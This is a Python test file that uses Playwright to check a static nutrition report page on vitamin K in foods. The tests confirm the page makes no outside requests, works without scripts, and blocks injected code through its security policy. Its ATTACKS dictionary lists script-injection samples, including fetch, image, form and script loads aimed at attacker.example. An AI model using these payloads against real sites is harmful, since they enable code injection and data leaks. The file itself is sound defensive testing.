"""The page is closed: nothing comes in, nothing goes out, and only its own script runs."""

import threading
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser

from tests.report.conftest import OpenPage, open_all


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - its name there
        """Say nothing."""


@pytest.fixture
def site(built: Path) -> Iterator[str]:
    """Serve the output as any web host would; return its address."""
    handler = partial(_Quiet, directory=str(built))
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}"
        server.shutdown()


def test_page_works_from_a_web_host_that_goes_away(
    built: Path, page_of: OpenPage, site: str
) -> None:
    with page_of(built, site=site) as (page, watched):
        page.fill("#q", "danish blue")
        page.click("#results a >> nth=0")
        page.locator("#food-name").wait_for()
        assert "72.1 µg in 100 g" in page.inner_text("#food .key-amount")
        page.go_back()
        page.locator("#start").wait_for()
        assert watched.requests == [f"{site}/report/index.html"]


def test_everything_that_can_be_done_asks_for_nothing(built: Path, page_of: OpenPage) -> None:
    permissions = ["clipboard-read", "clipboard-write"]
    with page_of(built, permissions=permissions) as (page, watched):
        page.fill("#q", "natto")
        page.select_option("#of", "MK7")
        page.check("#fermented")
        page.click("#copy")
        page.click("#results a >> nth=0")
        page.locator("#food-name").wait_for()
        open_all(page)
        page.select_option("#serving", index=1)
        page.fill("#grams", "12")
        page.fill("#want", "45")
        for view in ("claims", "warfarin", ""):
            page.click(f".ways [data-show='{view}']")
        page.click("#as-records")
        page.select_option("#per", "serving")
        page.click("#results a >> nth=0")
        page.locator("#food .key").wait_for()
        open_all(page)
        page.select_option("#serving", index=1)
        for link in page.locator("a[data-jump]").all():
            link.dispatch_event("click")
        assert len(watched.requests) == 1


# Each way in which a text could become code, tried on the page itself.
ATTACKS = {
    "a script in the page": """() => {
      const script = document.createElement("script");
      script.textContent = "window.ran = true";
      document.body.append(script);
    }""",
    "a script from elsewhere": """() => {
      const script = document.createElement("script");
      script.src = "https://attacker.example/x.js";
      document.body.append(script);
    }""",
    "a script in an address": """() => {
      const frame = document.createElement("iframe");
      frame.src = "data:text/html,<script>parent.ran = true</script>";
      document.body.append(frame);
    }""",
    "a handler in an attribute": """() => {
      const button = document.createElement("button");
      button.setAttribute("onclick", "window.ran = true");
      document.body.append(button);
      button.click();
    }""",
    "a text in a timer": """() => { setTimeout("window.ran = true") }""",
    "a picture from elsewhere": """() => {
      new Image().src = "https://attacker.example/x.png";
    }""",
    "a call": """() => fetch("https://attacker.example/x").catch(() => undefined)""",
    "a style in an attribute": """() => {
      document.body.setAttribute("style", "background: url(https://attacker.example/x.png)");
    }""",
    "a form": """() => {
      const form = document.createElement("form");
      form.action = "https://attacker.example/";
      document.body.append(form);
      form.submit();
    }""",
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_policy_blocks(built: Path, browser: Browser, attack: str) -> None:
    context = browser.new_context()
    page = context.new_page()
    requests: list[str] = []
    page.add_init_script(
        "window.blocked = [];"
        "addEventListener('securitypolicyviolation', (e) => blocked.push(e.effectiveDirective))"
    )
    page.goto((built / "report" / "index.html").as_uri())
    page.on("requestfinished", lambda request: requests.append(request.url))
    page.evaluate(ATTACKS[attack])
    page.wait_for_function("() => window.blocked.length > 0")
    assert page.evaluate("window.ran") is None
    assert requests == []
    context.close()


def test_without_scripts_the_page_leads_to_the_numbers(built: Path, page_of: OpenPage) -> None:
    with page_of(built, java_script_enabled=False) as (page, _):
        assert page.locator("noscript").inner_text().startswith("The search needs JavaScript")
        assert page.locator("#search").is_visible() is False
        assert page.locator("#count").is_visible() is False  # it would say that it is reading
        assert page.locator("#claims .card").count() > 30
        assert page.locator("#claims .card").last.is_visible()
        assert page.locator("#warfarin tr").last.is_visible()
        assert page.locator("button:visible").count() == 0  # it would do nothing
        table = page.locator("noscript a").get_attribute("href")
        assert (built / "report" / str(table)).is_file()
        assert page.locator("#files a").count() > 10
        assert page.locator(".drawing svg:visible").count() == 4
        for drawing in page.locator(".drawing svg:visible").all():
            box = drawing.bounding_box()
            assert box is not None
            assert box["height"] > 100
        page.locator("#pictures summary").first.click()
        assert page.locator("#pictures details[open] td").first.is_visible()
